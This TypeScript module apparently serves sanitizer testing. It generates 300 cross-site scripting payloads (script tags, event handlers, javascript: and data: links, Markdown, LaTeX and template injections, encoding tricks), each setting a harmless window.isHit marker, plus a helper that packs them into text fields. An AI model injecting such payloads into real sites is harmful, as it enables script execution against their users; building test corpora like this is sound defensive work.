/**
 * Known ways to get a script to run where text is taken for HTML, a link or a style: three hundred of them. Each would set
 * `window.isHit` or open a dialog if it ran.
 */
const code = 'window.isHit=1'

const tags = [
  `<script>${code}</script>`,
  `<ScRiPt>${code}</sCrIpT>`,
  `<script src=data:,${code}></script>`,
  `<script>${code}//`,
  `<svg><script>${code}</script></svg>`,
  `<svg><script href=data:,${code} />`,
  `<math><mi//xlink:href="data:x,<script>${code}</script>">`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<iframe src="javascript:parent.${code}"></iframe>`,
  `<object data="javascript:${code}"></object>`,
  `<embed src="javascript:${code}">`,
  `<form action="javascript:${code}"><button>点</button></form>`,
  `<form><button formaction="javascript:${code}">点</button></form>`,
  `<a href="javascript:${code}">点</a>`,
  `<a href="jav&#x09;ascript:${code}">点</a>`,
  `<a href=" javascript:${code}">点</a>`,
  `<a href="data:text/html,<script>${code}</script>">点</a>`,
  `<base href="javascript:${code}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  `<link rel=stylesheet href="javascript:${code}">`,
  `<style>@import 'javascript:${code}'</style>`,
  `<style>*{background:url(javascript:${code})}</style>`,
  `<div style="background:url(javascript:${code})">x</div>`,
  `<div style="width:expression(${code})">x</div>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<template><img src=x onerror=${code}></template>`,
  `<textarea></textarea><script>${code}</script>`,
  `</title><script>${code}</script>`,
  `--><script>${code}</script>`,
  `]]><script>${code}</script>`,
  `'";--></style></script><script>${code}</script>`,
  `<<script>${code}//<</script>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<xss id=x tabindex=1 onfocus=${code}></xss>`,
  `<details open ontoggle=${code}>x</details>`,
  `<marquee onstart=${code}>x</marquee>`,
  `<video><source onerror=${code}></video>`,
  `<audio src=x onerror=${code}>`,
  `<isindex type=image src=1 onerror=${code}>`,
  `<input autofocus onfocus=${code}>`,
  `<select autofocus onfocus=${code}>`,
  `<keygen autofocus onfocus=${code}>`,
  `<body onload=${code}>`,
  `<svg onload=${code}>`,
  `<svg/onload=${code}//`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${code}><a id=x><text y=20>x</text></a></svg>`,
  `<img src=x onerror=${code}>`,
  `<img src="x" onerror="${code}" />`,
  `<img src=x onerror\n=${code}>`,
  `<img src=\`x\` onerror=${code}>`,
  `<img """><script>${code}</script>">`,
  `<image src=x onerror=${code}>`,
  `<picture><source srcset=x onerror=${code}><img src=x onerror=${code}></picture>`,
] as const

const elements = [
  'img src=x',
  'svg',
  'body',
  'div',
  'p',
  'span',
  'a href=#',
  'input',
  'video src=x',
  'b',
] as const

const events = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onpointerenter',
  'onfocus',
  'onanimationstart',
  'ontransitionend',
  'onscroll',
  'onwheel',
  'onbeforeinput',
  'oncopy',
] as const

const links = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'javascript&colon;',
  'javascript&#58;',
  'javascript%3A',
  'vbscript:',
  'livescript:',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaXNIaXQ9MTwvc2NyaXB0Pg==,',
  'data:text/html,<script>',
  'data:image/svg+xml,<svg onload=',
  'view-source:javascript:',
  'blob:javascript:',
] as const

const markdown = [
  (link: string) => `[点我](${link}${code})`,
  (link: string) => `![图](${link}${code})`,
  (link: string) => `<${link}${code}>`,
  (link: string) => `[点我]: ${link}${code}\n[点我]`,
  (link: string) => `[点我](<${link}${code}>)`,
] as const

const formulas = [
  `$\\href{javascript:${code}}{x}$`,
  `$\\url{javascript:${code}}$`,
  `$\\htmlData{x=1}{<img src=x onerror=${code}>}$`,
  `$\\text{<img src=x onerror=${code}>}$`,
  `$$\\includegraphics{x" onerror="${code}}$$`,
  `\`\`\`html\n<script>${code}</script>\n\`\`\``,
  `| <img src=x onerror=${code}> |\n|---|\n| <svg onload=${code}> |`,
  `{{constructor.constructor('${code}')()}}`,
  `\${${code}}`,
  `<%= ${code} %>`,
  `%3Cscript%3E${code}%3C/script%3E`,
  `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
  `&lt;script&gt;${code}&lt;/script&gt;`,
  `&#60;script&#62;${code}&#60;/script&#62;`,
  `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
] as const

const handlers = elements.flatMap((element) => events.map((event) => `<${element} ${event}=${code}>x`))

export const payloads: readonly string[] = [
  ...tags,
  ...formulas,
  ...links.flatMap((link) => markdown.map((write) => write(link))),
  ...handlers,
  ...handlers.slice(0, 36).map((text) => `"'>${text}`),
].slice(0, 300)

let next = 0

/** How many were handed out. */
export const handedOut = (): number => next

/** As many as fit into a text of this length, going on where the last one stopped; at least one, cut if it must be. */
export function fill(length: number): string {
  let text = ''
  for (;;) {
    const payload = payloads[next % payloads.length] ?? ''
    if (text && text.length + payload.length + 1 > length) return text
    next += 1
    text += `${text ? ' ' : ''}${payload}`
    if (text.length >= length) return text.slice(0, length)
  }
}
